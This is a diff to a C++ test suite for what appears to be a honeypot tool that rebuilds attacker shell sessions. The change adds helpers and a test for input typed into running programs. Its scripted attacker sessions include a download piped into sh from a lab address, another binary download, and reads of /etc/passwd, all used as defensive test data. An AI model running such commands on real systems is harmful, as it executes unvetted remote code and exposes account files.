@@ -22,6 +22,7 @@
 
 #include <fstream>
 #include <future>
+#include <optional>
 #include <random>
 #include <regex>
 #include <set>
@@ -124,6 +125,13 @@ std::vector<json> with_id(const std::vector<json>& events, const std::string& id
   std::vector<json> v;
   for (const auto& e : events)
     if (e.value("eventid", "") == id) v.push_back(e);
+  return v;
+}
+
+// The `input` of every event with this id, in order.
+std::vector<std::string> inputs_of(const std::vector<json>& events, const std::string& id) {
+  std::vector<std::string> v;
+  for (const auto& e : with_id(events, id)) v.push_back(e.value("input", ""));
   return v;
 }
 
@@ -238,6 +246,18 @@ class SessionLab : public ::testing::Test {
     return sessions_in(out);
   }
 
+  // `attack` one session of `script` while `w` watches into `out`; its folder (fails the test
+  // when the attacker failed or the watcher did not write exactly one session).
+  static std::optional<fs::path> one_session(Watcher& w, const fs::path& out, const std::string& name, const std::string& script) {
+    const auto a = attack(name, script, work_ / (name + ".screen"));
+    EXPECT_EQ(a.exit_code, 0) << a.err;
+    if (a.exit_code != 0) return std::nullopt;
+    const auto sessions = stop_and_list(w, out);
+    EXPECT_EQ(sessions.size(), 1u) << w.log();
+    if (sessions.size() != 1) return std::nullopt;
+    return sessions[0];
+  }
+
   static fs::path work_;
   static FileServer* server_;
   static std::uint16_t port_;
@@ -305,8 +325,7 @@ TEST_F(SessionLab, ScriptedAttackerSessionIsReconstructedFromOutside) {
   }
 
   // Every command as finally entered (the typo fixed).
-  std::vector<std::string> inputs;
-  for (const auto& e : with_id(ev, "cowrie.command.input")) inputs.push_back(e.value("input", ""));
+  const auto inputs = inputs_of(ev, "cowrie.command.input");
   for (const std::string& want : std::vector<std::string>{"echo typo-fixed-marker", "uname -r | tr a-z A-Z", "cd /tmp", "cat note.txt",
                                  "tcc -o hello hello.c && ./hello", "sha256sum /tmp/up.bin",
                                  "wget -q -O tool.bin http://10.0.2.100/tool.bin", "exit"}) {
@@ -388,13 +407,10 @@ TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
       "wget -O - http://10.0.2.100/s.sh | sh\n"
       "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd\n"
       "exit\n";
-  const auto a = attack("keys", script, work_ / "keys.screen");
-  ASSERT_EQ(a.exit_code, 0) << a.err;
-  const auto sessions = stop_and_list(w, out);
-  ASSERT_EQ(sessions.size(), 1u) << w.log();
-  const auto ev = events_of(sessions[0]);
-  std::vector<std::string> inputs;
-  for (const auto& e : with_id(ev, "cowrie.command.input")) inputs.push_back(e.value("input", ""));
+  const auto dir = one_session(w, out, "keys", script);
+  ASSERT_TRUE(dir.has_value());
+  const auto ev = events_of(*dir);
+  const auto inputs = inputs_of(ev, "cowrie.command.input");
   const std::vector<std::string> want = {
       "mkdir -p /tmp/tc && touch /tmp/tc/alpha-one /tmp/tc/alpha-two && cd /tmp",
       "cat /etc/passwd",
@@ -406,7 +422,7 @@ TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
       "wget -O - http://10.0.2.100/s.sh | sh",
       "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd",
       "exit"};
-  EXPECT_EQ(inputs, want) << slurp(sessions[0] / "transcript.txt");
+  EXPECT_EQ(inputs, want) << slurp(*dir / "transcript.txt");
   // What the shell ran, from its children's argv: the same lines.
   std::set<std::string> ran;
   for (const auto& e : with_id(ev, "hvtrace.process.exec")) {
@@ -416,7 +432,7 @@ TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
   }
   EXPECT_TRUE(ran.count("cat /etc/passwd")) << "cat's argv";
   EXPECT_TRUE(ran.count("ls /tmp/tc/alpha-two")) << "ls's argv";
-  const std::string t = slurp(sessions[0] / "transcript.txt");
+  const std::string t = slurp(*dir / "transcript.txt");
   EXPECT_NE(t.find("$ cat /etc/passwd\nroot:x:0:0:"), std::string::npos) << t.substr(0, 3000);
   EXPECT_NE(t.find("piped-script-ran-42"), std::string::npos) << t.substr(0, 3000);
 
@@ -441,6 +457,48 @@ TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
     else EXPECT_FALSE(e.value("content_captured", true)) << e.dump();
   }
   EXPECT_TRUE(copy_seen) << "cp's file";
+}
+
+// Lines typed into a running program are its input, not commands: text typed into `cat > file`,
+// the answer to the shell's `read -p`; a line typed ahead while `sleep` runs is the command the
+// shell runs next; a nested shell's lines are commands. A command stopped with Ctrl-C is shown
+// killed by SIGINT.
+TEST_F(SessionLab, LinesTypedIntoProgramsAreTheirInputAndCtrlCIsNamed) {
+  const fs::path out = work_ / "stdin";
+  Watcher w(out);
+  ASSERT_TRUE(w.ready()) << w.log();
+  const std::string script =
+      "!keys cat > /tmp/typed.txt<CR>first typed line<CR>second typed line<CR><C-d>\n"
+      "!expect [#$] $\n"
+      "cat /tmp/typed.txt\n"
+      "!keys read -p 'Name? ' WHO<CR>Mallory<CR>\n"
+      "echo \"hi $WHO\"\n"
+      "!keys sleep 2<CR>echo typed-ahead-42<CR>\n"
+      "!expect typed-ahead-42\\r?\\n.*[#$] $\n"
+      "!keys sleep 30<CR><C-c>\n"
+      "!expect [#$] $\n"
+      "!keys sh<CR>\n"
+      "!expect [#$] $\n"
+      "echo nested-$((6*7))\n"
+      "!keys exit<CR>\n"
+      "!expect [#$] $\n"
+      "exit\n";
+  const auto dir = one_session(w, out, "stdin", script);
+  ASSERT_TRUE(dir.has_value());
+  const auto ev = events_of(*dir);
+  const std::string t = slurp(*dir / "transcript.txt");
+  const auto commands = inputs_of(ev, "cowrie.command.input");
+  const auto typed = inputs_of(ev, "hvtrace.command.stdin");
+  const std::vector<std::string> want_commands = {
+      "cat > /tmp/typed.txt", "cat /tmp/typed.txt", "read -p 'Name? ' WHO", "echo \"hi $WHO\"", "sleep 2",
+      "echo typed-ahead-42", "sleep 30", "sh", "echo nested-$((6*7))", "exit", "exit"};
+  EXPECT_EQ(commands, want_commands) << t;
+  const std::vector<std::string> want_typed = {"first typed line", "second typed line", "Mallory", "echo typed-ahead-42"};
+  EXPECT_EQ(typed, want_typed) << t;
+  EXPECT_NE(t.find("$ cat /tmp/typed.txt\nfirst typed line\nsecond typed line\n[exit 0]"), std::string::npos) << t;
+  EXPECT_NE(t.find("$ echo typed-ahead-42\ntyped-ahead-42\n"), std::string::npos) << t;
+  EXPECT_NE(t.find("[killed by SIGINT]"), std::string::npos) << t;
+  EXPECT_NE(t.find("nested-42"), std::string::npos) << t;
 }
 
 TEST_F(SessionLab, TwoConcurrentLoginsGiveTwoSessionsWithNoCrossedLines) {
